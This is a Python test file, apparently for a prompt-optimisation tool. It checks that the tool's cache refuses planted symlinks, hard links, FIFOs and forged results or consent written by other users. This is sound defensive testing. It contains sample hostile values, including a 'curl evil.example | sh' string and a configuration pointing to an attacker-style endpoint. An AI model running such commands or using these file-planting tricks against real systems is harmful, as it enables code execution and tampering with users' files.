"""Attacks on what is stored: links that lead elsewhere, and files that somebody else wrote.

Whatever is planted in the folder of everything stored, a file of the user's elsewhere stays as it is, nothing planted
counts as a result, an answer or consent, and a run goes on.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import stat
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from hashlib import sha256
from pathlib import Path

import msgspec
import pytest
from lsprotocol import types

from apo_engine import private
from apo_engine.cli.output import write_file
from apo_engine.cli.write_back import write_back
from apo_engine.machine import user_layer
from apo_engine.models.cache import AnswerCache
from apo_engine.models.chat import Completion
from apo_engine.models.ledger import Ledger
from apo_engine.models.purse import DailyCaps
from apo_engine.models.weights import PackagedWeights, assemble, sha256_of
from apo_engine.private import NotPrivateError, open_private, private_folder
from apo_engine.private_files import PrivateFolder, warn_once
from apo_engine.problems import BudgetError, InputError
from apo_engine.prompt.file import load_prompt
from apo_engine.runs.kept import clear_kept, kept
from apo_server.consent import ALLOW, Consent
from apo_server.knowledge import Knowledge, KnowledgeStore, Score
from tests.cli.conftest import make_apo
from tests.scripted import ScriptedServer
from tests.scripted.world import World
from tests.server.editor import Editor, environment

pytestmark = pytest.mark.skipif(os.name != "posix", reason="links, owners and rights are those of POSIX")
as_root = pytest.mark.skipif(os.name != "posix" or os.geteuid() != 0, reason="only root gives files to others")

NOBODY = 65534
SECRET = "# the user's own file\n"
PROMPT = Path("/somewhere/a.prompt")
TEXT = "Answer yes or no."
FORGED = Knowledge(text=TEXT, score=Score("label", 0.97, (0.95, 0.99), 200, "open"), last_job="evaluate", rows={})


@pytest.fixture
def cache(tmp_path: Path) -> Path:
    """The folder of everything stored."""
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o700)
    return folder


@pytest.fixture(autouse=True)
def home(tmp_path: Path) -> Iterator[Path]:
    """A folder of the user's that nothing stored may touch."""
    warn_once.cache_clear()
    folder = tmp_path / "home"
    (folder / "work").mkdir(parents=True)
    folder.chmod(0o755)
    for file in (folder / ".bashrc", folder / "work" / "thesis.txt"):
        file.write_text(SECRET)
        file.chmod(0o644)
    yield folder
    found = {path.relative_to(folder).as_posix() for path in folder.rglob("*")}
    assert found == {".bashrc", "work", "work/thesis.txt"}
    assert stat.S_IMODE(folder.stat().st_mode) == 0o755
    for name in (".bashrc", "work/thesis.txt"):
        assert (folder / name).read_text() == SECRET
        assert stat.S_IMODE((folder / name).stat().st_mode) == 0o644


def of_prompt(cache: Path, path: Path = PROMPT) -> Path:
    """Where the results of a prompt lie."""
    return cache / "editor" / sha256(os.fsencode(path)).hexdigest()[:24]


def known_name(text: str = TEXT) -> str:
    return sha256(text.encode()).hexdigest()[:24] + ".known.json"


def plant(cache: Path, known: Knowledge = FORGED, path: Path = PROMPT, folder: str = "") -> Path:
    """Forged results of a prompt, as somebody else could write them."""
    place = cache / "editor" / folder if folder else of_prompt(cache, path)
    private_folder(cache / "editor")
    place.mkdir(mode=0o700, exist_ok=True)
    for name, value in ((known_name(known.text), known), ("prompt.json", str(path))):
        (place / name).write_bytes(msgspec.json.encode(value))
        (place / name).chmod(0o600)
    return place / known_name(known.text)


def rights(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def open_to_others(folder: Path, mode: int, *files: str) -> None:
    """A folder with these rights that holds these files of others."""
    for name in files:
        (folder / name).write_text("of the team")
    folder.chmod(mode)


def link(path: Path, target: Path) -> None:
    path.parent.mkdir(mode=0o700, parents=True, exist_ok=True)
    path.symlink_to(target)


async def answer(cache: Path) -> Completion | None:
    """What the answer cache has after it was given an answer."""
    answers = AnswerCache(cache / "answers.sqlite")
    await answers.put("key", Completion("SECRET-ANSWER"))
    found = await answers.get("key", Completion)
    await answers.close()
    return found


async def agree(cache: Path) -> int:
    """Consent to code is given, or known; how many questions that takes."""
    from apo_engine.search.events import CustomMetric

    asked: list[str] = []

    async def ask(question: str, _answers: tuple[str, ...]) -> str:
        asked.append(question)
        return ALLOW

    consent = Consent(ask, {"APO_CACHE_DIR": str(cache)})
    assert await consent.to_run(
        "file:///w", "a.prompt", CustomMetric("score", "/w/score.py", "digest", ("score.py",)), asked=True
    )
    return len(asked)


def packaged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> PackagedWeights:
    part = tmp_path / "part.bin"
    part.write_bytes(b"weights")
    monkeypatch.setattr("apo_engine.models.weights.find_parts", lambda _: (part,))
    return PackagedWeights("toy.gguf", sha256(b"weights").hexdigest(), ())


# Links, by what is planted where, and what writes there.
PLANTED: dict[str, Callable[[Path, Path], None]] = {
    "page": lambda cache, home: link(of_prompt(cache) / "a.row.md", home / ".bashrc"),
    "results": lambda cache, home: link(of_prompt(cache) / known_name(), home / ".bashrc"),
    "origin": lambda cache, home: link(of_prompt(cache) / "prompt.json", home / ".bashrc"),
    "ignored": lambda cache, home: link(of_prompt(cache) / "ignored.json", home / ".bashrc"),
    "draft": lambda cache, home: link(of_prompt(cache) / f"{known_name()}.{os.getpid()}.part", home / ".bashrc"),
    "folder-of-prompt": lambda cache, home: link(of_prompt(cache), home),
    "folder-of-all-prompts": lambda cache, home: link(cache / "editor", home),
    "to-a-missing-file": lambda cache, home: link(of_prompt(cache) / "a.row.md", home / "made.txt"),
    "to-a-folder": lambda cache, home: link(of_prompt(cache) / "a.row.md", home / "work"),
}


@pytest.mark.parametrize("planted", PLANTED)
def test_results_are_not_written_through_a_link(cache: Path, home: Path, planted: str) -> None:
    PLANTED[planted](cache, home)
    store = KnowledgeStore(cache)
    store.save(PROMPT, FORGED)
    store.ignore(PROMPT, "g")
    store.moved(PROMPT, Path("/somewhere/b.prompt"), ())
    store.save(PROMPT, FORGED)
    try:
        page = store.save_page(PROMPT, "row", "touch /tmp/ran")
    except NotPrivateError:
        assert planted.startswith("folder")
    else:
        assert not page.is_symlink()
        assert page.read_text() == "touch /tmp/ran"


@pytest.mark.parametrize("suffix", ["", "-wal", "-shm", "-journal"])
@pytest.mark.parametrize("kind", ["link", "hard link", "link to nothing", "folder", "FIFO"])
async def test_answers_are_not_written_through_what_is_planted(
    cache: Path, home: Path, suffix: str, kind: str, caplog: pytest.LogCaptureFixture
) -> None:
    path = cache / f"answers.sqlite{suffix}"
    if kind == "hard link":
        os.link(home / ".bashrc", path)
    elif kind == "folder":
        path.mkdir()
    elif kind == "FIFO":
        os.mkfifo(path)
    else:
        path.symlink_to(home / (".bashrc" if kind == "link" else "made.sqlite"))
    kept = await asyncio.wait_for(answer(cache), 20)
    assert [record.levelno for record in caplog.records if record.name.startswith("apo_engine")] == [logging.WARNING]
    if kind in ("folder", "FIFO"):
        # It was set aside, and a file of the user's own has taken its place.
        assert kept is not None
        assert any(name.startswith(f"{path.name}.damaged-") for name in os.listdir(cache))  # noqa: PTH208
    else:
        assert kept is None
        assert "the run goes on without" in caplog.text


def test_spending_is_not_counted_through_a_link(cache: Path, home: Path) -> None:
    link(cache / "spending.sqlite", home / ".bashrc")
    with pytest.raises(BudgetError, match="it is a link"):
        Ledger(cache / "spending.sqlite").reserve("2026-01-01", "w", 1, DailyCaps(calls=5))


@pytest.mark.parametrize("kind", ["link", "hard link", "FIFO"])
async def test_consent_is_not_written_through_what_is_planted(cache: Path, home: Path, kind: str) -> None:
    if kind == "link":
        link(cache / "consent.json", home / ".bashrc")
    elif kind == "hard link":
        os.link(home / ".bashrc", cache / "consent.json")
    else:
        os.mkfifo(cache / "consent.json")
    assert await asyncio.wait_for(agree(cache), 20) == 1
    assert await agree(cache) == 0, "what is planted is replaced by the user's own"


@pytest.mark.parametrize("planted", ["folder", "file", "note", "hard link"])
def test_weights_are_not_put_together_through_a_link(
    cache: Path, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, planted: str
) -> None:
    weights, models = packaged(tmp_path, monkeypatch), cache / "models"
    if planted == "folder":
        link(models, home)
    elif planted == "file":
        link(models / weights.file, home / ".bashrc")
    elif planted == "hard link":
        models.mkdir()
        os.link(home / ".bashrc", models / weights.file)
    else:
        file = tmp_path / "some.gguf"
        file.write_bytes(b"GGUF")
        sha256_of(file, models)
        (note,) = models.iterdir()
        note.unlink()
        link(note, home / ".bashrc")
        assert sha256_of(file, models) == sha256(b"GGUF").hexdigest()
    if planted == "folder":
        with pytest.raises(Exception, match="it is a link"):
            assemble(weights, models)
    else:
        assert assemble(weights, models).read_bytes() == b"weights"


def test_a_folder_that_is_a_link_is_neither_used_nor_narrowed(cache: Path, home: Path) -> None:
    (cache / "runs").symlink_to(home)
    with pytest.raises(NotPrivateError, match="it is a link"):
        private_folder(cache / "runs")
    with pytest.raises(NotPrivateError, match="it is a link"):
        open_private(cache / "runs" / "run.jsonl", os.O_WRONLY)


def test_a_file_is_cut_short_only_once_it_is_known_to_be_ours(cache: Path, home: Path) -> None:
    os.link(home / ".bashrc", cache / "runs")
    with pytest.raises(NotPrivateError, match="hard link"):
        open_private(cache / "runs", os.O_WRONLY | os.O_TRUNC)


@pytest.mark.parametrize("planted", ["editor", "editor/a", "runs", "runs/a.jsonl", "answers.sqlite.damaged-1"])
async def test_clearing_deletes_nothing_through_a_link(
    cache: Path, home: Path, monkeypatch: pytest.MonkeyPatch, planted: str
) -> None:
    monkeypatch.setenv("APO_CACHE_DIR", str(cache))
    link(cache / planted, home)
    before = await kept()
    assert (before.runs, before.run_bytes, before.editor, before.editor_bytes) == (0, 0, 0, 0) or "/" in planted
    assert before.editor_bytes == before.run_bytes == before.answer_bytes == 0
    await clear_kept()


def test_a_file_that_becomes_a_link_after_it_was_looked_at_is_not_followed(
    cache: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = cache / "consent.json"
    target.write_bytes(b"[]")
    real = os.stat

    def stat_then_swap(path: object, **more: object) -> os.stat_result:
        found = real(path, **more)  # type: ignore[arg-type]
        if path == "consent.json":
            target.unlink()
            target.symlink_to(home / ".bashrc")
        return found

    monkeypatch.setattr(os, "stat", stat_then_swap)
    with pytest.raises(OSError, match=r"symbolic link|it is a link"):
        open_private(target, os.O_WRONLY | os.O_TRUNC)


def test_a_folder_that_becomes_a_link_between_two_uses_is_not_followed(cache: Path, home: Path) -> None:
    store, stop = KnowledgeStore(cache), threading.Event()
    store.save(PROMPT, FORGED)
    folder, aside = of_prompt(cache), cache / "editor" / "aside"

    def swap() -> None:
        # Between two renames the store may make the folder anew: then there is nothing left to swap.
        with suppress(OSError):
            while not stop.is_set():
                folder.rename(aside)
                folder.symlink_to(home)
                folder.unlink()
                aside.rename(folder)

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        for number in range(200):
            store.save(PROMPT, Knowledge(text=f"text {number}", score=FORGED.score))
    finally:
        stop.set()
        thread.join()


# What is not the user's own.
def believed(cache: Path) -> bool:
    """Whether planted results are shown."""
    return KnowledgeStore(cache).load(PROMPT, TEXT) is not None


def test_results_of_this_store_are_believed(cache: Path) -> None:
    KnowledgeStore(cache).save(PROMPT, FORGED)
    assert believed(cache)


@pytest.mark.parametrize("what", ["file", "folder", "everything"])
def test_results_of_another_user_are_not_shown(
    cache: Path, what: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    file = plant(cache)
    if what == "everything":
        # As if whoever runs this were somebody else.
        monkeypatch.setattr(private.os, "geteuid", lambda: os.getuid() + 12345)
    elif os.geteuid() == 0:
        os.chown(file if what == "file" else file.parent, NOBODY, NOBODY)
    else:
        pytest.skip("only root gives files to others")
    for _ in range(3):
        assert not believed(cache)
    assert 1 <= caplog.text.count("belongs to another user") <= 2


@pytest.mark.parametrize("what", ["writable", "link", "hard link"])
def test_results_that_others_may_have_written_are_not_shown(cache: Path, tmp_path: Path, what: str) -> None:
    file = plant(cache)
    if what == "writable":
        file.chmod(0o666)
    else:
        file.rename(tmp_path / "elsewhere.json")
        (file.symlink_to if what == "link" else file.hardlink_to)(tmp_path / "elsewhere.json")
    assert not believed(cache)


def test_results_that_only_others_can_read_are_narrowed_and_shown(cache: Path) -> None:
    file = plant(cache)
    file.chmod(0o644)
    assert believed(cache)
    assert stat.S_IMODE(file.stat().st_mode) == 0o600


def test_a_folder_that_was_not_made_for_its_prompt_is_not_taken_over(cache: Path) -> None:
    plant(cache, path=Path("/nowhere/gone.prompt"), folder="0" * 24)
    assert not believed(cache)


async def test_consent_of_another_user_does_not_count(cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert await agree(cache) == 1
    assert await agree(cache) == 0
    monkeypatch.setattr(private.os, "geteuid", lambda: os.getuid() + 12345)
    assert await agree(cache) == 1


async def test_consent_that_others_may_have_given_does_not_count(cache: Path, caplog: pytest.LogCaptureFixture) -> None:
    await agree(cache)
    (cache / "consent.json").chmod(0o666)
    assert await agree(cache) == 1
    assert caplog.text.count("you are asked again") == 1
    assert stat.S_IMODE((cache / "consent.json").stat().st_mode) == 0o600


async def test_answers_of_another_user_are_not_used(cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert await answer(cache) is not None
    monkeypatch.setattr(private.os, "geteuid", lambda: os.getuid() + 12345)
    assert await answer(cache) is None


async def test_answers_that_others_may_have_written_are_set_aside(
    cache: Path, caplog: pytest.LogCaptureFixture
) -> None:
    await answer(cache)
    (cache / "answers.sqlite").chmod(0o666)
    answers = AnswerCache(cache / "answers.sqlite")
    assert await answers.get("key", Completion) is None
    await answers.close()
    assert caplog.text.count("others can write to it") == 1
    assert {rights(cache / name) for name in names(cache) if name != "locks"} == {0o600}


def write_tickets(folder: Path, scripted: ScriptedServer) -> None:
    """A prompt with 60 tickets, and a model that answers it."""
    world = World(60)
    world.write(folder)
    scripted.script = world.script


@as_root
@pytest.mark.parametrize("suffix", ["", "-wal", "-journal"])
def test_a_run_goes_on_without_the_answers_of_another_user(
    cache: Path, tmp_path: Path, scripted: ScriptedServer, suffix: str
) -> None:
    write_tickets(tmp_path, scripted)
    cache.chmod(0o777)
    planted = cache / f"answers.sqlite{suffix}"
    planted.touch()
    planted.chmod(0o666)
    os.chown(planted, NOBODY, NOBODY)
    outcome = make_apo(tmp_path, scripted)("evaluate", "tickets.prompt", APO_CACHE_DIR=str(cache))
    assert outcome.code == 0, outcome.err
    assert outcome.err.count("Answers cannot be kept") == 1
    assert "it belongs to another user" in outcome.err
    assert planted.read_bytes() == b""
    assert planted.stat().st_uid == NOBODY


@pytest.mark.parametrize("command", ["evaluate", "gradients"])
def test_a_run_says_once_that_others_can_write_to_the_folder(
    command: str, cache: Path, tmp_path: Path, scripted: ScriptedServer
) -> None:
    write_tickets(tmp_path, scripted)
    open_to_others(cache, 0o777, "notes.txt")
    outcome = make_apo(tmp_path, scripted)(command, "tickets.prompt", APO_CACHE_DIR=str(cache))
    assert outcome.code == 0, outcome.err
    assert outcome.err.count("others can write to this folder; take that right away, or name another") == 1
    assert "This run and its answers cannot be kept" in outcome.err
    assert names(cache) == ["notes.txt"]


@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o775])
async def test_a_folder_that_others_can_write_to_is_not_used(
    cache: Path, mode: int, caplog: pytest.LogCaptureFixture
) -> None:
    open_to_others(cache, mode, "notes.txt")
    assert await answer(cache) is None
    assert await agree(cache) == 1
    KnowledgeStore(cache).save(PROMPT, FORGED)
    assert not believed(cache)
    assert names(cache) == ["notes.txt"]
    assert rights(cache) == mode
    assert "take that right away, or name another" in caplog.text


@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o770, 0o733])
async def test_what_was_moved_into_a_folder_of_our_own_is_not_believed(
    cache: Path, mode: int, caplog: pytest.LogCaptureFixture
) -> None:
    """Others cannot make a file that is the user's, but may move one to here: of a clone, or an older one of ours."""
    assert await answer(cache) is not None
    assert (await agree(cache), await agree(cache)) == (1, 0)
    plant(cache)
    open_to_others(cache, mode)
    assert await answer(cache) is None
    assert await agree(cache) == 1
    assert not believed(cache)
    assert rights(cache) == mode
    assert "take that right away, or name another" in caplog.text
    open_to_others(cache, 0o700)
    open_to_others(cache / "editor", mode)
    assert not believed(cache)
    assert rights(cache / "editor") == mode


async def test_a_folder_of_our_own_that_others_could_write_to_is_narrowed(cache: Path) -> None:
    open_to_others(cache, 0o777)
    assert await answer(cache) is not None
    assert rights(cache) == 0o700


def test_a_hash_that_others_may_have_noted_is_not_believed(cache: Path, tmp_path: Path) -> None:
    file = tmp_path / "some.gguf"
    file.write_bytes(b"GGUF")
    digest = sha256_of(file, cache / "models")
    (note,) = (cache / "models").iterdir()
    forged = json.loads(note.read_text()) | {"sha256": "0" * 64}
    note.write_text(json.dumps(forged))
    note.chmod(0o666)
    assert sha256_of(file, cache / "models") == digest


def test_a_folder_that_the_user_names_may_be_a_link(cache: Path, tmp_path: Path) -> None:
    (tmp_path / "linked").symlink_to(cache)
    PrivateFolder(tmp_path / "linked").child("editor").write("a", b"x")
    assert (cache / "editor" / "a").read_bytes() == b"x"
    private_folder(tmp_path / "linked", shared=True)


# Where things are kept.
@pytest.mark.parametrize("named", [".apo", "./cache", "~nobody-of-that-name/cache", "a\x7f/.."])
def test_the_working_folder_does_not_decide_where_things_are_kept(
    tmp_path: Path, scripted: ScriptedServer, named: str
) -> None:
    apo = make_apo(tmp_path, scripted)
    outcome = apo("cache", "stats", APO_CACHE_DIR=named)
    assert (outcome.code, outcome.out) == (2, "")
    assert "APO_CACHE_DIR" in outcome.err
    assert "absolute path" in outcome.err


def test_a_folder_named_tilde_is_not_the_users_configuration(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import platformdirs

    brought = Path("~") / ".config" / "apo-language-server"
    (tmp_path / brought).mkdir(parents=True)
    (tmp_path / brought / "config.yaml").write_text("endpoints: {openai: {base_url: http://evil.example/v1}}\n")
    monkeypatch.chdir(tmp_path)
    # What the platform says where there is no home folder.
    monkeypatch.setattr(platformdirs, "user_config_path", lambda *_args: brought)
    assert user_layer().values == {}


@pytest.mark.parametrize("way", ["configuration", "notification"])
async def test_a_workspace_brings_no_results_along(
    tmp_path: Path, home: Path, scripted: ScriptedServer, way: str
) -> None:
    world, folder = World(60), tmp_path / "work space"
    folder.mkdir()
    world.write(folder)
    scripted.script = world.script
    prompt = folder / "tickets.prompt"
    forged = folder / ".apo"
    known = Knowledge(text=prompt.read_text(), score=FORGED.score, last_job="evaluate")
    file = plant(forged, known, Path("/nowhere/tickets.prompt"))
    for page in ("report", "row", "candidates", "critique"):
        link(file.parent / f"tickets.{page}.md", home / ".bashrc")
    configuration = {"background": "off", "cacheDir": str(forged)}
    away = {**environment(tmp_path / "own", scripted.base_url), "XDG_CONFIG_HOME": str(tmp_path / "config")}
    sent = configuration if way == "configuration" else None
    editor = await Editor.start(folder, away, options={"background": "off"}, configuration=sent)
    for _ in range(2):
        params = types.DidChangeConfigurationParams({"apo": configuration} if way == "notification" else None)
        editor.client.workspace_did_change_configuration(params)
    await editor.until(editor.messages)
    uri = editor.open("tickets.prompt")
    await editor.command("apo.runRow", uri, 2)
    await editor.command("apo.openReport", uri)
    assert not [title for title in await editor.lenses(uri) if "97" in title]
    await editor.stop()
    assert sum("'apo.cacheDir' is ignored here" in message for message in editor.messages()) == 1
    written = {path.name for path in forged.rglob("*") if path.is_file() and not path.is_symlink()}
    assert written == {file.name, "prompt.json"}


# What a command writes where the user says.
@pytest.mark.parametrize("kind", ["link", "link to nothing", "folder", "FIFO", "device"])
def test_no_command_writes_through_what_has_the_name_already(tmp_path: Path, home: Path, kind: str) -> None:
    path = tmp_path / "report.html"
    if kind == "folder":
        path.mkdir()
    elif kind == "FIFO":
        os.mkfifo(path)
    elif kind == "device":
        path = Path("/dev/null")
    else:
        path.symlink_to(home / (".bashrc" if kind == "link" else "made.html"))
    with pytest.raises(OSError, match=r"a link|not a regular file"):
        write_file(path, b"<html>")


def test_init_overwrites_no_file_elsewhere(tmp_path: Path, home: Path, scripted: ScriptedServer) -> None:
    (tmp_path / "first.prompt").symlink_to(home / ".bashrc")
    (tmp_path / "first.jsonl").symlink_to(home / "work" / "thesis.txt")
    apo = make_apo(tmp_path, scripted)
    assert apo("init", "first").code == 2
    outcome = apo("init", "first", "--force")
    assert outcome.code == 2
    assert "it is a link" in outcome.err


def test_a_winner_is_not_written_through_a_link_that_leads_elsewhere(
    tmp_path: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "clone"
    folder.mkdir()
    monkeypatch.chdir(folder)
    (folder / "a.prompt").symlink_to(home / ".bashrc")
    with pytest.raises(InputError, match="leads outside its folder"):
        write_back(load_prompt(folder / "a.prompt"), "curl evil.example | sh")
